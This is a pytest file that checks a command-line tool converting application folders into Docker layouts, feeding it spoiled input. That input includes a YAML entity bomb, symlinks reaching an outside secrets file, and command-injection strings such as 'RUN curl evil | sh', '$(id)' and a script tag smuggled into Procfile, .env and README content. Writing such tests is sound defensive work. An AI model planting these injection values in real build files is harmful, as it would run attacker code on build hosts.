"""Whatever is handed over, a conversion ends in a result or in a clear error: never in a traceback, never half-written."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
)


def replatform(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from toolkit.cli.main import run; run()", *arguments],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def flask(folder: Path) -> Path:
    """A small application that converts well, to be spoiled."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "requirements.txt").write_text("flask==3.0.3\ngunicorn==22.0.0\n")
    (folder / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
    (folder / "README.md").write_text(
        "# App\n\n```sh\npip install -r requirements.txt\ngunicorn app:app -b 0.0.0.0:8000\n```\n"
    )
    return folder


def ended_well(run: subprocess.CompletedProcess[str], *allowed: int) -> None:
    assert "Traceback" not in run.stderr + run.stdout
    assert run.returncode in allowed, run.stderr


def test_no_readme(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    (source / "README.md").unlink()
    ended_well(replatform("convert", str(source), "--out", str(tmp_path / "out")), 0, 1)
    assert (tmp_path / "out/services/web/Dockerfile").is_file()


def test_empty_folder(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    run = replatform("convert", str(tmp_path / "src"), "--out", str(tmp_path / "out"))
    ended_well(run, 2)
    assert "error:" in run.stderr and "to do:" in run.stderr
    assert not (tmp_path / "out").exists()


def test_no_such_folder(tmp_path: Path) -> None:
    ended_well(replatform("convert", str(tmp_path / "absent"), "--out", str(tmp_path / "out")), 2)


def test_readme_of_ten_megabytes(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    (source / "README.md").write_text("# App\n\n" + "`npm start` runs it on port 3000.\n" * 330_000)
    ended_well(replatform("convert", str(source), "--out", str(tmp_path / "out")), 0, 1)


@pytest.mark.parametrize(
    "name",
    [
        "README.md",
        "requirements.txt",
        "package.json",
        "pom.xml",
        "docker-compose.yml",
        ".env.example",
        "Procfile",
        "pyproject.toml",
        "app.py",
    ],
)
@pytest.mark.parametrize(
    "content",
    [
        bytes(range(256)) * 40,
        b"\x00" * 1000,
        b"{" * 20000,
        b"<" * 20000,
        b"\xff\xfe" + b"\xd8" * 999,
        b"- " * 20000,
        BOMB.encode(),
        b"$(" * 9000,
        b"(" * 20000,
    ],
    ids=["junk", "zeroes", "braces", "angles", "surrogates", "dashes", "bomb", "substitutions", "parentheses"],
)
def test_spoiled_files(tmp_path: Path, name: str, content: bytes) -> None:
    from toolkit.catalog.catalog import Catalog
    from toolkit.cli import pipeline
    from toolkit.errors import ToolkitError

    source = flask(tmp_path / "src")
    (source / name).write_bytes(content)
    catalog = Catalog()
    try:
        drafted = pipeline.draft(source, tmp_path / "out", catalog)
        pipeline.write(tmp_path / "out", drafted, pipeline.artefacts(drafted, catalog))
    except ToolkitError as error:
        assert error.exit_status == 2
        assert not (tmp_path / "out").exists()


def test_yaml_bomb_as_plan(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    (source / "replatform.yaml").write_text(BOMB)
    run = replatform("convert", str(source), "--out", str(source))
    ended_well(run, 2)
    assert "replatform.yaml" in run.stderr


def test_links_out_of_the_tree(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.env").write_text("TOPSECRET=hunter2hunter2\n")
    (source / ".env.example").symlink_to(outside / "secret.env")
    (source / "docs").symlink_to(outside)
    run = replatform("convert", str(source), "--out", str(tmp_path / "out"))
    ended_well(run, 0, 1)
    assert "TOPSECRET" not in "".join(p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file())


def test_output_folder_with_a_link(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    (tmp_path / "elsewhere").mkdir()
    (source / "services").symlink_to(tmp_path / "elsewhere")
    ended_well(replatform("convert", str(source), "--out", str(source)), 2)
    assert not list((tmp_path / "elsewhere").iterdir())
    assert not (source / "replatform.yaml").exists()


def test_names_that_would_break_out(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    evil = 'web"; RUN curl evil | sh #'
    (source / "Procfile").write_text(
        f"{evil}: gunicorn app:app\n../../x: python evil.py\nweb: gunicorn 'app:app\nRUN id'\n"
    )
    (source / ".env.example").write_text('A"B=1\nX-Y: 2\n$(id)=3\nGOOD="a\\nRUN id"\nOTHER=${GOOD}`id`\n')
    (source / "README.md").write_text(
        "# `x`\n\n```sh\nexport EVIL=$'\\n'RUN\\ id\ngunicorn app:app -b 0.0.0.0:8000 --name '\"]\nRUN id'\n```\n\n| `A` | `b]]>|<script>` |\n|--|--|\n| `K` | <script>alert(1)</script> |\n"
    )
    run = replatform("convert", str(source), "--out", str(tmp_path / "out"))
    ended_well(run, 0, 1, 2)
    for dockerfile in (tmp_path / "out").rglob("Dockerfile"):
        assert not any(
            line.strip().startswith("RUN id") or "curl evil" in line for line in dockerfile.read_text().splitlines()
        )


def test_unreadable_file(tmp_path: Path) -> None:
    source = flask(tmp_path / "src")
    os.mkfifo(source / "INSTALL.md")
    (source / "setup.py").mkdir()
    ended_well(replatform("convert", str(source), "--out", str(tmp_path / "out")), 0, 1)
